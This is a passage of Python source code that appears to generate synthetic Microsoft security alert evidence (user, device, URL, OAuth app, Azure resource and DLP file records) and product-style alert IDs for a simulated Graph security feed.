                "mailboxEvidence",
                c.created,
                "unknown",
                "none",
                ["destination"],
                displayName=u.display,
                primaryAddress=u.upn,
                upn=u.upn,
                userAccount=user_account(u, tid, full=False),
            ),
            _ev("urlEvidence", c.created, "malicious", "blocked", ["contextual"], url=url),
        ]
    if kind in ("cloudapp", "dlp"):
        app_id, app_name = rng.choice(CLOUD_APPS)
        evs = [
            user_evidence(u, tid, c.created),
            _ev(
                "cloudApplicationEvidence",
                c.created,
                "unknown",
                "none",
                ["contextual"],
                appId=app_id,
                displayName=app_name,
                instanceId=0,
                instanceName=app_name,
                saasAppId=app_id,
                stream=None,
            ),
        ]
        if kind == "cloudapp":
            evs.append(ip_evidence(c.geo, c.created, ["source"]))
        else:
            fname = rng.choice(("Q3-payroll.xlsx", "customer-export.csv", "contracts-2026.zip"))
            evs.append(
                _ev(
                    "fileEvidence",
                    c.created,
                    "suspicious",
                    c.remediation,
                    ["policyViolator"],
                    detectionStatus="detected",
                    mdeDeviceId=None,
                    fileDetails=file_details(rng, fname, f"https://contoso.sharepoint.com/sites/{u.account}"),
                )
            )
        return evs
    if kind == "oauth":
        oauth_id, obj_id, name, publisher = rng.choice(c.ents.apps)
        return [
            _ev(
                "oauthApplicationEvidence",
                c.created,
                "suspicious",
                c.remediation,
                ["contextual"],
                appId=oauth_id,
                displayName=name,
                objectId=obj_id,
                publisher=publisher,
            ),
            user_evidence(u, tid, c.created, "contextual"),
        ]
    if kind in ("azure", "azure_vm", "ai"):
        rtype, rname = {
            "azure": ("Microsoft.Storage/storageAccounts", f"stprod{rand_hex(rng, 6)}"),
            "azure_vm": ("Microsoft.Compute/virtualMachines", f"vm-app-{rng.randrange(1, 40):02d}"),
            "ai": ("Microsoft.CognitiveServices/accounts", f"oai-prod-{rand_hex(rng, 4)}"),
        }[kind]
        rid = f"/subscriptions/{c.ents.subscription}/resourceGroups/{c.ents.resource_group}/providers/{rtype}/{rname}"
        evs = [
            _ev(
                "azureResourceEvidence",
                c.created,
                "suspicious",
                c.remediation,
                ["attacked"],
                resourceId=rid,
                resourceName=rname,
                resourceType=rtype.split("/", 1)[1].rstrip("s").title().replace("account", "Account"),
            ),
            ip_evidence(c.geo, c.created, ["source"]),
        ]
        if kind == "ai":
            evs.append(user_evidence(u, tid, c.created, "suspicious"))
        return evs
    if kind == "sentinel":
        return [user_evidence(u, tid, c.created), ip_evidence(c.geo, c.created, ["source"], rem=c.remediation)]
    # xdr: correlated detections over user + device + network
    return [
        user_evidence(u, tid, c.created),
        device_evidence(d, u, c.created, c.first_seen, "compromised"),
        _ev("urlEvidence", c.created, "malicious", c.remediation, ["commandAndControl"], url=url),
        ip_evidence(c.geo, c.created, ["destination"]),
    ]


def make_alert_ids(rng: random.Random, style: str) -> Tuple[str, str]:
    """(id, providerAlertId) in the shape each product uses (treat as opaque)."""
    if style == "mde":
        provider = f"63{rng.randrange(10**15, 10**16)}{rng.randrange(10, 99)}_{rng.randrange(-(2**31), 2**31)}"
        return "da" + provider, provider
    if style == "mdc":
        provider = f"25{rng.randrange(10**16, 10**17)}_{rand_uuid(rng)}"
        return "dc" + provider, provider
    prefix_kind, prefix = style.split(":")
    if prefix_kind == "guid":
        provider = rand_uuid(rng)
    elif prefix_kind == "hex":
        provider = rand_hex(rng, 24 if prefix != "ad" else 64)
    else:  # digits
        provider = f"63{rng.randrange(10**15, 10**16)}{rng.randrange(10, 99)}_{rng.randrange(10**8, 10**9)}"
    return prefix + provider, provider


def detector_id(profile_key: str, title: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"graph-sim:{profile_key}:{title}"))
